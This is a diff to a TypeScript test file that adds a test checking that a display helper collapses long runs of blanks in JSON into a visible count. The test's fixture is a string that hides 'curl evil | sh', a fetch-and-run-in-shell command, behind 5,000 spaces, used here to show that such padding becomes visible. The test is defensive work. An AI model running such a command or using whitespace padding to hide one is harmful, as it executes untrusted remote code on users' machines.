@@ -1,5 +1,5 @@
 import t from 'tap';
-import { shownJson, shownText } from '../../../machines/base/shown-json.ts';
+import { shownJson, shownText, withoutGaps } from '../../../machines/base/shown-json.ts';
 import { fc } from '../../support/property.ts';
 
 const hidden = [
@@ -31,5 +31,13 @@ t.test('LNK-2 · what is shown is the same value', (t) => {
       t.same(JSON.parse(shownJson(value)), JSON.parse(JSON.stringify(value)));
     }),
   );
+  t.end();
+});
+
+t.test('SEC-2 · SEC-7 · many blanks in a row are shown as their number, and the shape of the JSON stays', (t) => {
+  const shown = withoutGaps(shownJson({ a: { b: { c: { d: { e: `echo${' '.repeat(5_000)}; curl evil | sh` } } } } }));
+  t.match(shown, /\n {10}"e": "echo …\(5000 blanks\)… ; curl evil \| sh"\n/);
+  t.equal(withoutGaps(`"${'\u2003'.repeat(9)}x"`), '" …(9 blanks)… x"', 'whatever blanks they are');
+  t.equal(withoutGaps('a        b'), 'a        b', 'eight stay');
   t.end();
 });
